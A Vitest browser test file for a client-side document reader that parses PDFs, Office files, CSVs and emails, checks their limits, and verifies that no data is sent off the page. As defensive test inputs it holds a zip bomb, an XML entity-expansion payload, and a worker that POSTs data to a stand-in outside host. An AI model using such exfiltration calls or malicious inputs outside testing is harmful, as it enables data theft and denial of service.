import { describe, expect, it } from 'vitest';
import { commands } from 'vitest/browser';
import {
	compoundFile,
	encryptedPdf,
	hugeTable,
	namedFile,
	packageFile,
	pdfFile,
	practiceFile,
	zipBomb
} from '../../../../tests/support/files.ts';
import { buildEml } from '../../../../scripts/practice-files/eml.ts';
import type { PartLabel, ReadDocument } from './document.ts';
import { limits } from './limits.ts';
import { readFile, type NamedBlob } from './read-file.ts';

const letter = {
	from: 'a@bron.example',
	to: 'b@doel.example',
	subject: 'Doorgestuurd',
	date: 'Fri, 20 Nov 2026 16:40:00 +0100',
	body: 'Zie de bijlage.'
};
const bytesOf = async (file: File) => new Uint8Array(await file.arrayBuffer());

async function read(file: NamedBlob): Promise<ReadDocument> {
	const outcome = await readFile(file);
	if (!outcome.ok) throw new Error(`refused: ${outcome.reason}`);
	return outcome.document;
}

async function refusal(file: NamedBlob): Promise<string> {
	const outcome = await readFile(file);
	return outcome.ok ? 'was read' : outcome.reason;
}

type Requests = Awaited<ReturnType<typeof commands.requestsSoFar>>;

/** Requests that carry something, or go elsewhere. */
const leaving = (requests: Requests): Requests =>
	requests.filter(
		({ method, url, hasBody }) =>
			method !== 'GET' ||
			hasBody ||
			(!url.startsWith('blob:') && new URL(url).origin !== location.origin)
	);

const textOf = ({ parts }: ReadDocument, code: PartLabel['code']): string =>
	parts
		.filter(({ label }) => label.code === code)
		.map(({ text }) => text)
		.join('\n');

describe('a PDF', () => {
	it('is read per page, with its metadata', async () => {
		const deed = await read(await practiceFile('hypotheekakte.pdf.md'));
		const pages = deed.parts.filter(({ label }) => label.code === 'page');
		expect(pages).toHaveLength(3);
		expect(pages[0]?.label).toEqual({ code: 'page', page: 1 });
		expect(pages[0]?.text).toContain('burgerservicenummer 999996563');
		expect(textOf(deed, 'metadata')).toContain('Haverkoorn en El Hamrouki');
	});

	it('of more than 100 pages is read in part and says so', async () => {
		const texts = Array.from({ length: 104 }, (_, index) => `Dit is pagina ${index + 1}.`);
		const { parts, notices } = await read(await pdfFile(texts));
		expect(parts.filter(({ label }) => label.code === 'page')).toHaveLength(100);
		expect(notices).toEqual([{ code: 'pages-cut', read: 100, total: 104 }]);
	});

	it('without text on a page says so', async () => {
		const { notices } = await read(await pdfFile(['Tekst', '']));
		expect(notices).toEqual([{ code: 'pages-without-text', count: 1 }]);
	});

	it('with a password is refused', async () => {
		expect(await refusal(encryptedPdf())).toBe('encrypted');
	});

	it('that is damaged is refused', async () => {
		expect(await refusal(namedFile('stuk.pdf', '%PDF-1.7\nniets meer'))).toBe('corrupt');
	});
});

describe('a file of Office', () => {
	it('Word: header, footer, comment, deleted text and metadata are read', async () => {
		const letter = await read(await practiceFile('verwijsbrief.docx.md'));
		expect(letter.kind).toBe('docx');
		expect(textOf(letter, 'document')).toContain('BSN\t999991693');
		expect(textOf(letter, 'document')).not.toContain('alcoholgebruik');
		expect(textOf(letter, 'changes')).toContain('alcoholgebruik');
		expect(textOf(letter, 'comments')).toContain('Ilse Voskuilenaar: Moet dit erin');
		expect(textOf(letter, 'header')).toContain('Proefweg 3');
		expect(textOf(letter, 'footer')).toContain('PT-58213');
		expect(textOf(letter, 'metadata')).toContain('J. van Fictema');
	});

	it('Excel: hidden sheet, days of birth, comments and names are read', async () => {
		const book = await read(await practiceFile('winst-en-verlies.xlsx.yaml'));
		const hidden = book.parts.find(
			({ label }) => label.code === 'sheet' && label.state === 'hidden'
		);
		expect(hidden?.label).toEqual({ code: 'sheet', sheet: 'personeel', state: 'hidden' });
		expect(hidden?.text.split('\n')[1]).toContain('Kees Zandvliering\t02-05-1966\t999994451');
		expect(hidden?.rows).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9]);
		expect(textOf(book, 'cell-comments')).toContain('D21 · Bram Dijkverda: Niet delen.');
		expect(textOf(book, 'names')).toContain('loonsom: personeel!');
	});

	it('cut off in the middle is refused', async () => {
		const whole = await practiceFile('verwijsbrief.docx.md');
		expect(await refusal(namedFile('half.docx', whole.slice(0, 3000)))).toBe('corrupt');
	});

	it('with a password is refused, and told from an old one', async () => {
		expect(await refusal(compoundFile('EncryptedPackage'))).toBe('encrypted');
		expect(await refusal(compoundFile('WordDocument'))).toBe('old-office');
	});

	it('that unpacks to far more than it is, is refused', async () => {
		expect(await refusal(zipBomb())).toBe('too-much-inside');
	});

	it('with definitions in its XML is refused', async () => {
		const xml = '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>';
		expect(await refusal(packageFile('x.docx', { 'word/document.xml': xml }))).toBe('unsafe');
	});
});

describe('a table', () => {
	it('by an old Excel keeps its euro sign', async () => {
		const bytes = Uint8Array.from('naam;saldo\nCora;€ 5', (letter) =>
			letter === '€' ? 0x80 : letter.charCodeAt(0)
		);
		const { kind, parts } = await read(namedFile('lijst.csv', bytes));
		expect([kind, parts[0]?.text, parts[0]?.rows]).toEqual([
			'csv',
			'naam\tsaldo\nCora\t€ 5',
			[1, 2]
		]);
	});
});

describe('a mail', () => {
	it('within a mail is read too, and names what could not be', async () => {
		const inner = buildEml({
			...letter,
			attachments: [
				{ name: 'geheim.pdf', type: 'application/pdf', bytes: await bytesOf(encryptedPdf()) }
			]
		});
		const workbook = await practiceFile('klantexport.xlsx.yaml');
		const outer = buildEml({
			...letter,
			attachments: [
				{ name: 'door.eml', type: 'message/rfc822', bytes: inner },
				{ name: 'lijst.xlsx', type: 'application/octet-stream', bytes: await bytesOf(workbook) }
			]
		});
		const { parts, notices } = await read(namedFile('mail.eml', new Uint8Array(outer)));
		const places = parts.map(({ label, within }) => [...within, label.code].join(' › '));
		expect(places).toContain('door.eml › mail-text');
		expect(places).toContain('lijst.xlsx › cell-comments');
		expect(notices).toEqual([
			{ code: 'attachment-unread', name: 'geheim.pdf', reason: 'encrypted' }
		]);
	});

	it('is read with its attachments, by name', async () => {
		const mail = await read(await practiceFile('klantmail.eml.md'));
		expect(textOf(mail, 'mail-headers')).toContain('Thijs Rietkampstra <');
		expect(textOf(mail, 'mail-text')).toContain('KL-884347');
		const table = mail.parts.find(({ label }) => label.code === 'rows');
		expect(table?.within).toEqual(['klantexport.csv']);
		expect(table?.rows).toHaveLength(26);
	});
});

describe('a large file', () => {
	it('of 50 MB is read in part while the tab stays responsive', async () => {
		const file = hugeTable(limits.fileBytes);
		let longest = 0;
		let last = performance.now();
		let isDone = false;
		const tick = () => {
			longest = Math.max(longest, performance.now() - last);
			last = performance.now();
			if (!isDone) setTimeout(tick, 5);
		};
		tick();
		const { parts, notices } = await read(file);
		isDone = true;
		expect(parts[0]?.text.length).toBe(limits.characters);
		expect(notices).toEqual([{ code: 'text-cut' }]);
		expect(longest).toBeLessThan(500);
	});

	it('above 50 MB is refused without being read', async () => {
		expect(await refusal(hugeTable(limits.fileBytes + 1_000_000))).toBe('too-large');
	});
});

describe('reading', () => {
	it('stops when it is told to', async () => {
		const stop = new AbortController();
		const outcome = readFile(await practiceFile('hypotheekakte.pdf.md'), { signal: stop.signal });
		stop.abort();
		expect(await outcome).toEqual({ ok: false, reason: 'cancelled' });
		expect(await readFile(namedFile('a.txt', 'a'), { signal: stop.signal })).toEqual({
			ok: false,
			reason: 'cancelled'
		});
	});

	it('would be noticed if it sent something from its thread', async () => {
		await commands.watchRequests();
		const elsewhere = 'http://elders.invalid/weg';
		const code = `fetch('${elsewhere}', { method: 'POST', body: 'x' }).catch(() => postMessage(1))`;
		const source = new Blob([code]);
		const address = URL.createObjectURL(source);
		const thread = new Worker(address);
		await new Promise((resolve) => thread.addEventListener('message', resolve));
		thread.terminate();
		URL.revokeObjectURL(address);
		await expect
			.poll(async () => leaving(await commands.requestsSoFar()))
			.toEqual([{ method: 'POST', url: elsewhere, hasBody: true }]);
	});

	it('sends nothing: only code is fetched, from here', async () => {
		await commands.watchRequests();
		for (const source of [
			'hypotheekakte.pdf.md',
			'winst-en-verlies.xlsx.yaml',
			'verwijsbrief.docx.md',
			'klantmail.eml.md'
		])
			await read(await practiceFile(source));
		// Events come a little later than the requests: when the last one is there, all are.
		await fetch('/src/app.css?last');
		await expect
			.poll(async () => (await commands.requestsSoFar()).at(-1)?.url)
			.toBe(`${location.origin}/src/app.css?last`);
		const requests = await commands.requestsSoFar();
		// The log sees into threads within threads.
		for (const thread of ['read.worker', 'pdf.worker'])
			expect(requests.some(({ url }) => url.includes(thread))).toBe(true);
		expect(leaving(requests)).toEqual([]);
		expect(requests.map(({ url }) => url).join()).not.toMatch(/99999|Testerink|Haverkoorn/iu);
	});
});
